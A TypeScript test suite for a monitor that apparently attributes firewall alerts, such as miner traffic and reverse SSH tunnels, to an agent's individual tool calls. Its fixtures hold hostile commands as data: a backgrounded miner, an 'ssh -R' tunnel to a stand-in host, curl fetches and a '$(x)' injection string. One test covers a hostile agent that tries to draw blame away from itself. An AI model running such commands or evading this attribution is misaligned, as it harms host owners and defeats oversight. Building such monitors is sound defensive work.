// What a person would conclude from each episode, and what they would rather not guess.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { draw } from './episode-for-test.ts'

describe('a connection that the host saw', () => {
  it('belongs to the call whose command its process runs, however late the alert comes', () => {
    const { ties } = draw(`
      0.0 call c1 curl -s http://198.51.100.33:3333/x
      0.1 exec 100<1 sh -c curl -s http://198.51.100.33:3333/x
      0.1 exec 101<100 curl -s http://198.51.100.33:3333/x
      0.2 conn 101 40001 198.51.100.33:3333
      0.6 end c1
      1.0 call c2 pytest -q
      9.0 end c2
      6.0 alert miner 40001 198.51.100.33:3333 since 0.2`)
    expect(ties).toEqual({ miner: 'c1 confirmed' })
  })

  it('belongs to the call that left its process behind (nohup), not to the one that runs now', () => {
    const { ties } = draw(`
      0.0 call c1 nohup ./x -o 198.51.100.33:3333 & sleep 1
      0.1 exec 100<1 sh -c nohup ./x -o 198.51.100.33:3333 & sleep 1
      0.1 exec 101<100 ./x -o 198.51.100.33:3333
      1.1 end c1
      2.0 call c2 python3 train.py
      2.1 exec 110<1 sh -c python3 train.py
      5.0 conn 101 40002 198.51.100.33:3333
      30.0 end c2
      12.0 alert miner 40002 198.51.100.33:3333 since 5.0`)
    expect(ties).toEqual({ miner: 'c1 confirmed' })
  })

  it('of a shell that is kept open for all calls belongs to the call that ran the command, not to the first', () => {
    const { ties } = draw(`
      0.0 call c1 cd /work
      0.1 exec 100<1 bash
      0.5 end c1
      3.0 call c2 curl http://198.51.100.7:8080/x
      3.1 exec 101<100 curl http://198.51.100.7:8080/x
      3.2 conn 101 40003 198.51.100.7:8080
      4.0 end c2
      4.5 alert odd 40003 198.51.100.7:8080 since 3.2`)
    expect(ties.odd).toMatch(/^c2 /)
  })

  it('is the session’s and no call’s where its process says nothing of either of two calls at once', () => {
    const { ties } = draw(`
      0.0 call c1 python3 a.py
      0.0 call c2 python3 b.py
      0.2 exec 100<1 worker
      0.3 conn 100 40004 198.51.100.7:443
      5.0 end c1
      5.0 end c2
      5.5 alert odd 40004 198.51.100.7:443 since 0.3`)
    expect(ties.odd).toBe('ep (no call) confirmed')
  })
})

describe('an alert without a connection that the host saw', () => {
  it('belongs to the call that names its destination, among calls that ran then', () => {
    const { ties } = draw(`
      0.0 call c1 ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.66
      0.0 call c2 pytest -q
      0.5 end c1
      9.0 end c2
      1.0 alert tunnel 40005 203.0.113.66:22 since 0.2`)
    expect(ties.tunnel).toBe('c1 likely')
  })

  it('belongs to no call where two calls that ran then say nothing of it: better none than a guess', () => {
    const { ties } = draw(`
      0.0 call c1 python3 a.py
      0.0 call c2 python3 b.py
      5.0 end c1
      5.0 end c2
      1.0 alert odd 40006 198.51.100.7:443`)
    expect(ties.odd).not.toMatch(/^c[12]/)
  })

  it('by a clock that is a minute and a half off is still tied, once other pairs tell so', () => {
    const { ties } = draw(
      `
      0.0 call c1 curl http://198.51.100.1:81/a
      0.1 exec 101<1 sh -c curl http://198.51.100.1:81/a
      0.2 conn 101 40011 198.51.100.1:81
      0.5 end c1
      10.0 call c2 curl http://198.51.100.2:82/b
      10.1 exec 102<1 sh -c curl http://198.51.100.2:82/b
      10.2 conn 102 40012 198.51.100.2:82
      10.5 end c2
      20.0 call c3 curl http://198.51.100.3:83/c
      20.1 exec 103<1 sh -c curl http://198.51.100.3:83/c
      20.2 conn 103 40013 198.51.100.3:83
      20.5 end c3
      30.0 call c4 python3 quiet.py
      33.0 end c4
      1.0 alert one 40011 198.51.100.1:81 since 0.2
      11.0 alert two 40012 198.51.100.2:82 since 10.2
      21.0 alert three 40013 198.51.100.3:83 since 20.2
      31.0 alert unseen 40014 198.51.100.4:84 since 30.5`,
      { firewallAheadMs: 90_000 },
    )
    expect(ties).toEqual({ one: 'c1 confirmed', two: 'c2 confirmed', three: 'c3 confirmed', unseen: 'c4 likely' })
  })

  it('is at most possibly of a call that began after it: only a clock that is off would explain that', () => {
    const { ties } = draw(`
      5.0 call c1 curl http://198.51.100.7:8080/x
      6.0 end c1
      1.0 alert early 40007 198.51.100.7:8080`)
    expect(['not tied', 'ep (no call) possible', 'c1 possible']).toContain(ties.early)
  })
})

describe('what is written', () => {
  it('corrects an earlier conclusion when late evidence comes, and says which', () => {
    const { written } = draw(`
      0.0 call c1 python3 a.py
      9.0 end c1
      1.0 alert odd 40008 198.51.100.7:8080 since 0.5
      0.4 call c2 curl http://198.51.100.7:8080/x
      0.9 end c2`)
    const about = written.flatMap((event) =>
      event.kind === 'attribution.made' && event.data.about === 'odd' ? [{ id: event.id, ...event.data }] : [],
    )
    expect(about.map((each) => each.call)).toEqual(['c1', 'c2'])
    expect(about[1]?.corrects).toBe(about[0]?.id)
  })

  it('tells the evidence in bits, and the next best', () => {
    const { written } = draw(`
      0.0 call c1 curl http://198.51.100.7:8080/x
      0.9 end c1
      0.0 call c2 pytest
      3.0 end c2
      1.0 alert odd 40009 198.51.100.7:8080 since 0.5`)
    const made = written.find((event) => event.kind === 'attribution.made')
    expect(made?.kind === 'attribution.made' && made.data).toMatchObject({
      call: 'c1',
      vouchedBy: 'firewall',
      runnerUp: { session: 'ep', call: 'c2' },
      features: expect.arrayContaining([expect.objectContaining({ name: 'the call names the address' })]),
    })
  })
})

describe('a hostile agent', () => {
  it('draws nobody else’s alert to itself by naming its destination', () => {
    const { ties } = draw(`
      0.0 call c1 python3 a.py
      0.1 exec 100<1 sh -c python3 a.py
      0.2 conn 100 40010 198.51.100.33:3333
      0.0 call x1@evil curl http://198.51.100.33:3333/
      9.0 end x1@evil
      9.0 end c1
      1.0 alert miner 40010 198.51.100.33:3333 since 0.2`)
    expect(ties.miner).toBe('c1 confirmed')
  })

  it('can say anything at all without a conclusion that does not fit, or an exception', () => {
    const word = fc.oneof(
      fc.string({ maxLength: 30 }),
      fc.constantFrom('curl', '10.8.0.7', '198.51.100.7:80', '-c', '&', '$(x)'),
    )
    const line = fc.tuple(
      fc.integer({ min: 0, max: 20 }),
      fc.constantFrom(
        'call c1',
        'call c2',
        'call c3@evil',
        'end c1',
        'end c2',
        'exec 5<4',
        'exec 6<5',
        'conn 5 1024',
        'alert a 1024',
      ),
      fc.array(word, { maxLength: 4 }),
    )
    fc.assert(
      fc.property(fc.array(line, { maxLength: 25 }), (lines) => {
        const text = lines
          .map(([at, what, words]) => {
            const said = words.join(' ').replace(/\s+/g, ' ')
            const isNet = what.startsWith('conn') || what.startsWith('alert')
            return `${at} ${what} ${isNet ? '198.51.100.7:80' : said || 'x'}`
          })
          .join('\n')
        const { written } = draw(text)
        for (const event of written) {
          if (event.kind !== 'attribution.made') continue
          expect(event.data.subjects.length).toBeGreaterThan(0)
          if (event.data.level === 'likely') expect(event.data.runnerUp).toBeDefined()
          // Conclusions are of sessions that exist, and no fact is its own cause.
          expect(['ep', 'evil']).toContain(event.session)
        }
      }),
      { numRuns: 150 },
    )
  })
})
